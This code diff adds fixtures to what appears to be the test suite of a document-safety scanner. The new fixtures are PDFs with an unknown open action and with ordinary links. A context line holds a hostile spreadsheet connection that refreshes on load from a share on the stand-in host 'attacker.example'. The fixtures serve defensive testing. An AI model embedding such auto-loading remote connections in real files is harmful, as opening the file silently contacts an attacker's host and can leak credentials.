@@ -430,3 +430,16 @@ def connections_xlsx() -> bytes:
 CONNECTIONS = (b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
                b'name="annex" type="6" refreshOnLoad="1"><textPr sourceFile="\\\\attacker.example\\share\\a.csv"/>'
                b"</connection></connections>")
+
+
+def unknown_action_pdf() -> bytes:
+    """An action of a kind no list of harmful ones names, on opening."""
+    return _pdf_with(b"/OpenAction << /S /ExecuteSomething /F (x) >>")
+
+
+def plain_links_pdf() -> bytes:
+    """What a report holds: a link within the document, a web link, a viewer command, a bookmark's action."""
+    return _pdf_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", b"/Annots [4 0 R 5 0 R]",
+                     b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.england.nhs.uk/) "
+                     b"/Next << /S /Named /N /NextPage >> >> >>",
+                     b"<< /Type /Annot /Subtype /Link /Rect [9 9 19 19] /Dest [3 0 R /Fit] >>")
